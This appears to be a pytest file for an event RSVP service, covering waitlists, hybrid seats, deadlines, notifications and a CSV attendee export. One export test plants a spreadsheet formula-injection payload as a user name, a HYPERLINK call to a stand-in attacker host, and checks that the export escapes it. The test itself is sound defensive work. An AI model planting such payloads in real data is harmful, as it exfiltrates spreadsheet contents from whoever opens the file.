"""Answers (Zusage / Vielleicht / Absage), seats, the waitlist and moving up, the attendee list."""

import csv
import io
import random
from datetime import timedelta

import pytest

from models.base import utcnow
from models.event import Event, Rsvp
from services import attendance, bus, events, notifications
from services.errors import Invalid, NotAllowed
from tests.services.conftest import make_user
from tests.services.events.conftest import (
    answer_of,
    audit_count,
    counted,
    create,
    event_data,
    event_row,
    notices,
    stored_counters,
)


@pytest.fixture
def crowd(session):
    """Six more members."""
    return [make_user(session, f'Person {n}', f'person{n}@essen.de') for n in range(6)]


def _assert_consistent(session, event_id):
    assert stored_counters(session, event_id) == counted(session, event_id)


def test_yes_maybe_and_no(session, mia_member, olaf, ben, kim):
    event_id = create(session, mia_member)
    mine = attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    assert (mine.answer, mine.seat, mine.position, mine.event_id) == ('yes', 'onsite', 0, event_id)
    assert attendance.rsvp(session, actor=ben, event_id=event_id, answer='maybe').answer == 'maybe'
    assert attendance.rsvp(session, actor=kim, event_id=event_id, answer='no').answer == 'no'
    assert stored_counters(session, event_id) == {'onsite_taken': 1, 'online_taken': 0, 'maybe_count': 1,
                                                  'waitlist_count': 0}
    _assert_consistent(session, event_id)
    view = events.get_event(session, viewer=olaf, event_id=event_id)
    assert view.mine.answer == 'yes' and view.onsite_taken == 1 and view.maybe_count == 1
    assert {a.member.name: a.answer for a in view.attendees} == {'Olaf Other': 'yes', 'Ben Becker': 'maybe'}

    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='maybe')
    attendance.rsvp(session, actor=ben, event_id=event_id, answer='no')
    attendance.rsvp(session, actor=kim, event_id=event_id, answer='yes')
    assert stored_counters(session, event_id) == {'onsite_taken': 1, 'online_taken': 0, 'maybe_count': 1,
                                                  'waitlist_count': 0}
    _assert_consistent(session, event_id)
    assert (answer_of(session, event_id, olaf.id), answer_of(session, event_id, ben.id),
            answer_of(session, event_id, kim.id)) == ('maybe', 'no', 'yes')


def test_answering_yes_twice_changes_nothing(session, mia_member, olaf):
    event_id = create(session, mia_member, capacity=3)
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    assert stored_counters(session, event_id)['onsite_taken'] == 1
    _assert_consistent(session, event_id)


def test_unknown_answer_is_invalid(session, mia_member, olaf):
    event_id = create(session, mia_member)
    for answer in ('', 'waitlist', 'ja', 'YES'):
        with pytest.raises(Invalid) as refused:
            attendance.rsvp(session, actor=olaf, event_id=event_id, answer=answer)
        assert refused.value.field == 'answer'
    assert answer_of(session, event_id, olaf.id) == ''


def test_pending_members_cannot_answer(session, mia_member, pia_pending, dora_deactivated):
    event_id = create(session, mia_member)
    for actor in (pia_pending, dora_deactivated):
        with pytest.raises(NotAllowed):
            attendance.rsvp(session, actor=actor, event_id=event_id, answer='yes')
    _assert_consistent(session, event_id)
    assert counted(session, event_id) == {'onsite_taken': 0, 'online_taken': 0, 'maybe_count': 0,
                                          'waitlist_count': 0}


def test_a_full_event_puts_the_next_yes_on_the_waitlist(session, mia_member, olaf, ben, kim, crowd):
    event_id = create(session, mia_member, capacity=2)
    assert attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes').answer == 'yes'
    assert attendance.rsvp(session, actor=ben, event_id=event_id, answer='yes').answer == 'yes'
    third = attendance.rsvp(session, actor=kim, event_id=event_id, answer='yes')
    assert (third.answer, third.position) == ('waitlist', 1)
    fourth = attendance.rsvp(session, actor=crowd[0], event_id=event_id, answer='yes')
    assert (fourth.answer, fourth.position) == ('waitlist', 2)
    assert stored_counters(session, event_id) == {'onsite_taken': 2, 'online_taken': 0, 'maybe_count': 0,
                                                  'waitlist_count': 2}
    _assert_consistent(session, event_id)
    # Saying yes again keeps the place in line.
    again = attendance.rsvp(session, actor=kim, event_id=event_id, answer='yes')
    assert (again.answer, again.position) == ('waitlist', 1)
    assert attendance.my_answer(session, crowd[0].id, event_id).position == 2


def test_a_freed_seat_goes_to_the_first_in_line_who_is_told(session, mia_member, olaf, ben, kim, crowd):
    seen: list[bus.Event] = []
    bus.subscribe('events.rsvp', seen.append)
    bus.subscribe('notifications.new', seen.append)
    event_id = create(session, mia_member, capacity=2)
    for member in (olaf, ben, kim, crowd[0]):
        attendance.rsvp(session, actor=member, event_id=event_id, answer='yes')
    seen.clear()

    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='no')

    assert answer_of(session, event_id, kim.id) == 'yes'
    assert answer_of(session, event_id, crowd[0].id) == 'waitlist'
    assert attendance.my_answer(session, crowd[0].id, event_id).position == 1
    assert stored_counters(session, event_id) == {'onsite_taken': 2, 'online_taken': 0, 'maybe_count': 0,
                                                  'waitlist_count': 1}
    _assert_consistent(session, event_id)
    told = notifications.unread(session, viewer=kim)
    assert [(n.kind, n.url, n.params.get('title')) for n in told] == [
        ('event.promoted', f'/events/{event_id}', 'Fachtag E-Akte')]
    assert notifications.unread(session, viewer=crowd[0]) == []
    assert notifications.unread(session, viewer=olaf) == []
    rsvp_events = [e for e in seen if e.topic == 'events.rsvp']
    assert [(e.data['event_id'], e.data['user_id'], e.data['promoted']) for e in rsvp_events] == [
        (event_id, olaf.id, [kim.id])]
    assert [e.data['user_ids'] for e in seen if e.topic == 'notifications.new'] == [[kim.id]]


def test_the_waitlist_keeps_its_order(session, mia_member, olaf, crowd):
    event_id = create(session, mia_member, capacity=1)
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    waiting = crowd[:5]
    for member in waiting:
        attendance.rsvp(session, actor=member, event_id=event_id, answer='yes')
    assert [attendance.my_answer(session, m.id, event_id).position for m in waiting] == [1, 2, 3, 4, 5]
    # The second in line gives up; the others close ranks, in order.
    attendance.rsvp(session, actor=waiting[1], event_id=event_id, answer='no')
    assert [attendance.my_answer(session, m.id, event_id).position for m in (waiting[0], *waiting[2:])] == \
        [1, 2, 3, 4]
    promoted = []
    leaving = olaf
    for _ in range(4):
        attendance.rsvp(session, actor=leaving, event_id=event_id, answer='no')
        now_in = [m for m in waiting if answer_of(session, event_id, m.id) == 'yes']
        assert len(now_in) == 1
        promoted.append(now_in[0].id)
        leaving = now_in[0]
        _assert_consistent(session, event_id)
    assert promoted == [waiting[0].id, waiting[2].id, waiting[3].id, waiting[4].id]
    listed = [a.member.name for a in attendance.attendees(session, event_id)]
    assert listed == [waiting[4].name]


def test_a_waitlisted_member_who_declines_leaves_the_line(session, mia_member, olaf, ben):
    event_id = create(session, mia_member, capacity=1)
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    attendance.rsvp(session, actor=ben, event_id=event_id, answer='yes')
    attendance.rsvp(session, actor=ben, event_id=event_id, answer='maybe')
    assert stored_counters(session, event_id) == {'onsite_taken': 1, 'online_taken': 0, 'maybe_count': 1,
                                                  'waitlist_count': 0}
    _assert_consistent(session, event_id)


def test_hybrid_events_need_a_seat_and_count_both_kinds(session, mia_member, olaf, ben, kim, crowd):
    event_id = create(session, mia_member, format='hybrid', online_url='https://meet.example.org/fachtag',
                      capacity=1, online_capacity=2)
    with pytest.raises(Invalid) as refused:
        attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    assert refused.value.field == 'seat'
    with pytest.raises(Invalid):
        attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes', seat='balkon')
    assert answer_of(session, event_id, olaf.id) == ''
    assert attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes', seat='onsite').answer == 'yes'
    assert attendance.rsvp(session, actor=ben, event_id=event_id, answer='yes', seat='online').answer == 'yes'
    waiting = attendance.rsvp(session, actor=kim, event_id=event_id, answer='yes', seat='onsite')
    assert (waiting.answer, waiting.seat, waiting.position) == ('waitlist', 'onsite', 1)
    online = attendance.rsvp(session, actor=crowd[0], event_id=event_id, answer='yes', seat='online')
    assert (online.answer, online.seat) == ('yes', 'online')
    online_waiting = attendance.rsvp(session, actor=crowd[1], event_id=event_id, answer='yes', seat='online')
    assert (online_waiting.answer, online_waiting.position) == ('waitlist', 1)  # each kind has its own line
    assert attendance.rsvp(session, actor=crowd[2], event_id=event_id, answer='maybe').answer == 'maybe'
    assert stored_counters(session, event_id) == {'onsite_taken': 1, 'online_taken': 2, 'maybe_count': 1,
                                                  'waitlist_count': 2}
    _assert_consistent(session, event_id)

    # An online seat freed goes to the online line, not to the one waiting for a seat on site.
    attendance.rsvp(session, actor=ben, event_id=event_id, answer='no')
    assert answer_of(session, event_id, crowd[1].id) == 'yes'
    assert answer_of(session, event_id, kim.id) == 'waitlist'
    # Switching from a seat on site to one online frees the seat on site for the next in line.
    attendance.rsvp(session, actor=crowd[1], event_id=event_id, answer='no')
    switched = attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes', seat='online')
    assert (switched.answer, switched.seat) == ('yes', 'online')
    assert answer_of(session, event_id, kim.id) == 'yes'
    assert stored_counters(session, event_id) == {'onsite_taken': 1, 'online_taken': 2, 'maybe_count': 1,
                                                  'waitlist_count': 0}
    _assert_consistent(session, event_id)


def test_online_events_count_online_seats(session, mia_member, olaf, ben):
    event_id = create(session, mia_member, format='online', location='', online_url='https://meet.example.org/x',
                      online_capacity=1)
    assert attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes', seat='onsite').seat == 'online'
    assert attendance.rsvp(session, actor=ben, event_id=event_id, answer='yes').answer == 'waitlist'
    assert stored_counters(session, event_id) == {'onsite_taken': 0, 'online_taken': 1, 'maybe_count': 0,
                                                  'waitlist_count': 1}
    _assert_consistent(session, event_id)


def test_more_seats_move_waitlisted_members_up(session, mia_member, olaf, ben, kim, crowd):
    event_id = create(session, mia_member, capacity=1)
    for member in (olaf, ben, kim, crowd[0]):
        attendance.rsvp(session, actor=member, event_id=event_id, answer='yes')
    events.update_event(session, actor=mia_member, event_id=event_id, data=event_data(capacity=3))
    assert [answer_of(session, event_id, m.id) for m in (olaf, ben, kim, crowd[0])] == \
        ['yes', 'yes', 'yes', 'waitlist']
    assert attendance.my_answer(session, crowd[0].id, event_id).position == 1
    assert [n.kind for n in notifications.unread(session, viewer=ben)] == ['event.promoted']
    assert [n.kind for n in notifications.unread(session, viewer=kim)] == ['event.promoted']
    assert notifications.unread(session, viewer=crowd[0]) == []
    assert stored_counters(session, event_id) == {'onsite_taken': 3, 'online_taken': 0, 'maybe_count': 0,
                                                  'waitlist_count': 1}
    _assert_consistent(session, event_id)
    # No limit at all: everyone gets a seat.
    events.update_event(session, actor=mia_member, event_id=event_id, data=event_data(capacity=None))
    assert answer_of(session, event_id, crowd[0].id) == 'yes'
    _assert_consistent(session, event_id)


def test_after_the_deadline_only_no_is_accepted(session, mia_member, olaf, ben):
    event_id = create(session, mia_member, deadline=event_data().starts - timedelta(days=1))
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')
    row = event_row(session, event_id)
    row.deadline = utcnow() - timedelta(hours=1)
    session.commit()
    for answer in ('yes', 'maybe'):
        with pytest.raises(NotAllowed):
            attendance.rsvp(session, actor=ben, event_id=event_id, answer=answer)
    with pytest.raises(NotAllowed):
        attendance.rsvp(session, actor=olaf, event_id=event_id, answer='maybe')
    assert answer_of(session, event_id, ben.id) == ''
    assert attendance.rsvp(session, actor=olaf, event_id=event_id, answer='no').answer == 'no'
    assert attendance.rsvp(session, actor=ben, event_id=event_id, answer='no').answer == 'no'
    _assert_consistent(session, event_id)


def test_cancelled_events_take_no_answers(session, mia_member, olaf):
    event_id = create(session, mia_member)
    events.cancel_event(session, actor=mia_member, event_id=event_id)
    for answer in ('yes', 'maybe'):
        with pytest.raises(NotAllowed):
            attendance.rsvp(session, actor=olaf, event_id=event_id, answer=answer)
    assert answer_of(session, event_id, olaf.id) == ''
    assert events.get_event(session, viewer=olaf, event_id=event_id).answer_blocked == events.MSG_CANCELLED


def test_started_events_take_no_answers(session, mia_member, olaf):
    started = Event(title='Laufende Tagung', starts_at=utcnow() - timedelta(minutes=30),
                    ends_at=utcnow() + timedelta(hours=2), location='Essen', organizer_id=mia_member.id)
    session.add(started)
    session.commit()
    with pytest.raises(NotAllowed):
        attendance.rsvp(session, actor=olaf, event_id=started.id, answer='yes')
    assert answer_of(session, started.id, olaf.id) == ''
    assert events.get_event(session, viewer=olaf, event_id=started.id).answer_blocked == events.MSG_STARTED


def test_counters_stay_consistent_through_many_answers(session, mia_member, crowd, olaf, ben):
    people = [*crowd, olaf, ben]
    single = create(session, mia_member, capacity=3)
    hybrid = create(session, mia_member, format='hybrid', online_url='https://meet.example.org/x', capacity=2,
                    online_capacity=2)
    rng = random.Random(20261128)
    for _ in range(80):
        member = rng.choice(people)
        answer = rng.choice(('yes', 'yes', 'maybe', 'no'))
        attendance.rsvp(session, actor=member, event_id=single, answer=answer)
        attendance.rsvp(session, actor=member, event_id=hybrid, answer=answer, seat=rng.choice(('onsite', 'online')))
        for event_id, seats in ((single, {'onsite': 3, 'online': 0}), (hybrid, {'onsite': 2, 'online': 2})):
            stored = stored_counters(session, event_id)
            assert stored == counted(session, event_id)
            # Nobody waits while a seat of their kind is free.
            for seat, capacity in seats.items():
                waiting = session.query(Rsvp).filter_by(event_id=event_id, answer='waitlist', seat=seat).count()
                if waiting:
                    assert stored[f'{seat}_taken'] == capacity
                assert stored[f'{seat}_taken'] <= capacity


# ---------------------------------------------------------------- the attendee list for the organiser


def test_attendees_csv(session, mia_member, olaf, ben, kim):
    evil = make_user(session, '=HYPERLINK("https://evil.example/?x="&A1)', 'evil@essen.de')
    event_id = create(session, mia_member, capacity=2)
    attendance.rsvp(session, actor=evil, event_id=event_id, answer='yes')
    attendance.rsvp(session, actor=ben, event_id=event_id, answer='maybe')
    attendance.rsvp(session, actor=kim, event_id=event_id, answer='yes')
    attendance.rsvp(session, actor=olaf, event_id=event_id, answer='yes')  # waitlist
    no_one = make_user(session, 'Nadine Nein', 'nadine@essen.de')
    attendance.rsvp(session, actor=no_one, event_id=event_id, answer='no')

    name, text = attendance.attendees_csv(session, actor=mia_member, event_id=event_id)

    assert name == f'teilnehmende-{event_id}-2027-03-10.csv'
    assert text.startswith('\ufeff')
    lines = text[1:].split('\r\n')
    assert lines[0] == 'Name;Verwaltung;Antwort;Teilnahme;Geantwortet am'
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=';'))
    assert rows[0] == ['Name', 'Verwaltung', 'Antwort', 'Teilnahme', 'Geantwortet am']
    by_name = {r[0]: r for r in rows[1:]}
    assert set(by_name) == {"'" + evil.name, 'Ben Becker', 'Kim Klein', 'Olaf Other'}
    assert not any(r[0].startswith(('=', '+', '-', '@')) for r in rows[1:])
    assert by_name['Olaf Other'][2] == 'Warteliste'
    assert by_name['Kim Klein'][2:4] == ['Zusage', 'vor Ort']
    assert by_name['Ben Becker'][2] == 'Vielleicht'
    assert all(len(r) == 5 for r in rows[1:])
    assert audit_count(session, 'event.export_attendees', event_id) == 1


# ---------------------------------------------------------------- notices


def test_mark_read_only_touches_my_own_notices(session, mia_member, olaf):
    notifications.notify(session, [mia_member.id], kind='event.reminder', text='Erinnerung', title='A')
    notifications.notify(session, [olaf.id], kind='event.reminder', text='Erinnerung', title='B')
    notifications.notify(session, [olaf.id], kind='event.promoted', text='Nachgerückt', title='C')
    session.commit()
    mine = notifications.unread(session, viewer=mia_member)
    others = notifications.unread(session, viewer=olaf)
    assert len(mine) == 1 and len(others) == 2

    notifications.mark_read(session, actor=mia_member, notice_id=others[0].id)
    assert len(notifications.unread(session, viewer=olaf)) == 2
    assert len(notifications.unread(session, viewer=mia_member)) == 1

    notifications.mark_read(session, actor=mia_member)  # all of mine
    assert notifications.unread(session, viewer=mia_member) == []
    assert len(notifications.unread(session, viewer=olaf)) == 2
    assert all(n.read_at is None for n in notices(session, olaf.id))

    notifications.mark_read(session, actor=olaf, notice_id=others[1].id)
    assert [n.id for n in notifications.unread(session, viewer=olaf)] == [others[0].id]
